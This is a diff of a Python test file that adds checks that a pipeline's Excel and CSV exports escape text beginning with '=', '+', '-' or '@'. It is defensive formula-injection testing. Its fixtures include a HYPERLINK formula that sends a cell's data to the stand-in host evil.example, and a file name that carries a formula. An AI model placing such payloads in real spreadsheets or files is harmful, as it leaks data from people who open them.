@@ -2,6 +2,7 @@
 (read back with openpyxl, printed through LibreOffice), the calendar (read back with icalendar) and the DuckDB
 database with `svodka query`/`compare`. The report has its own file (test_report.py)."""
 
+import csv
 import shutil
 import subprocess
 import zipfile
@@ -13,10 +14,13 @@ import pytest
 from icalendar import Calendar
 
 from pipeline import analytics
+from pipeline.night import run_night
 from pipeline.outputs import ANALYST_WRITERS, OUTPUT_FILES
 from pipeline.outputs.ics import SHORT_RANGE_DAYS
 from pipeline.outputs.labels import anchor_words, categories, category_label
 from pipeline.outputs.xlsx import write_xlsx
+from pipeline.settings import Settings
+from tests.conftest import SAMPLES
 
 DATED = {"date", "range", "before", "after"}
 
@@ -171,6 +175,44 @@ def test_the_same_data_makes_the_same_workbook(analyst_night, tmp_path):
     (tmp_path / release.name).mkdir()
     again = write_xlsx(tmp_path / release.name, activities, records)
     assert again.read_bytes() == (release / "activities.xlsx").read_bytes()
+
+
+@pytest.mark.parametrize(("text", "in_csv"), [
+    ("=1+2", "'=1+2"), ("+7 (999) 123-45-67", "'+7 (999) 123-45-67"), ("-ежемесячно", "'-ежемесячно"),
+    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("Срок: до 1 марта", "Срок: до 1 марта"), ("1 = 1", "1 = 1"), ("", ""),
+])
+def test_formula_like_text_is_escaped_for_csv(text, in_csv):
+    from pipeline.outputs.safe_text import csv_safe, is_formula_like
+
+    assert csv_safe(text) == in_csv
+    assert is_formula_like(text) == (text != in_csv)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Подробнее")'
+FORMULA_NAME = "=1+2 план штаба.txt"
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_excel_and_csv(tmp_path):
+    """A cell and a file name starting with «=» (or «+», «-», «@») never become live formulas."""
+    text = (SAMPLES / "inbox" / "kuzbass_2021.txt").read_text(encoding="utf-8")
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    (inbox / FORMULA_NAME).write_text(text.replace("Комплектование состава", FORMULA, 1), encoding="utf-8")
+    run_night([inbox], Settings(out_dir=tmp_path / "out", workers=1))
+    book = openpyxl.load_workbook(tmp_path / "out" / "activities.xlsx")
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    review = openpyxl.load_workbook(tmp_path / "out" / "review.xlsx")  # people's corrections file, too
+    assert [c.coordinate for sheet in review for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
+    titles = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA)]
+    names = [c for c in cells if c.value == FORMULA_NAME]
+    assert titles and len(names) >= 17 + 1, "every activity's «Файл» and the «Документы» row (and «Охват»)"
+    assert all(c.quotePrefix and c.data_type == "s" for c in titles + names), "marked as text, as Excel does"
+    raw = (tmp_path / "out" / "activities.csv").read_text(encoding="utf-8-sig")
+    rows = list(csv.DictReader(raw.splitlines()))
+    assert rows[0]["title"].startswith("'" + FORMULA) and {r["source_file"] for r in rows} == {"'" + FORMULA_NAME}
+    assert raw.splitlines()[1].startswith('"'), "OWASP: every field quoted"
 
 
 def test_text_that_looks_like_a_formula_stays_text(analyst_night, tmp_path):
